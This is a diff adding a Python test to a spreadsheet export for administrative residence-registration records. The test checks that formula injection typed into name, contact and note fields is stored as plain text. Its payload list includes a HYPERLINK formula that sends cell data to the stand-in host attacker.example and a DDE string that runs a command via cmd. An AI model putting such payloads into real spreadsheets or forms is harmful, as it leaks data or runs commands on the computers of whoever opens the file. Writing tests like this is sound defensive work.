@@ -96,3 +96,43 @@ def test_an_empty_period_still_gives_a_book_with_its_header():
     sheet = workbook.active
     assert [cell.value for cell in sheet[HEADER_ROW]][1] == "Mã hồ sơ"
     assert sheet.max_row == HEADER_ROW
+
+
+# What the public may type into a name, an address or a note, and a spreadsheet would otherwise run.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Nguyễn Văn A")',
+    "+84 912 345 678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\n=1+1",
+    "   =1+1",
+]
+
+
+def test_typed_formulas_stay_text_exactly_as_typed():
+    rows = [
+        BookRow(
+            number=index,
+            application_code=f"000.00.12.H30-261124-000{index}",
+            procedure_name="Đăng ký thường trú",
+            applicant_name=text,
+            applicant_contact=text,
+            processing_agency="Công an tỉnh Hậu Giang",
+            received_at=at(24, 11, 9, 5),
+            due_at=at(1, 12, 16, 30),
+            note=text,
+        )
+        for index, text in enumerate(FORMULAS, start=1)
+    ]
+    content = tracking_book_xlsx(rows, "Sổ theo dõi", (date(2026, 11, 1), date(2026, 11, 30)))
+    sheet = load_workbook(io.BytesIO(content)).active
+    columns = [attribute for _heading, _width, attribute in COLUMNS]
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    for offset, text in enumerate(FORMULAS, start=1):
+        for attribute in ("applicant_name", "applicant_contact", "note"):
+            cell = sheet.cell(row=HEADER_ROW + offset, column=columns.index(attribute) + 1)
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    # Ordinary text, numbers and dates are written as before.
+    number = sheet.cell(row=HEADER_ROW + 1, column=1)
+    assert (number.value, number.data_type, number.quotePrefix) == (1, "n", False)
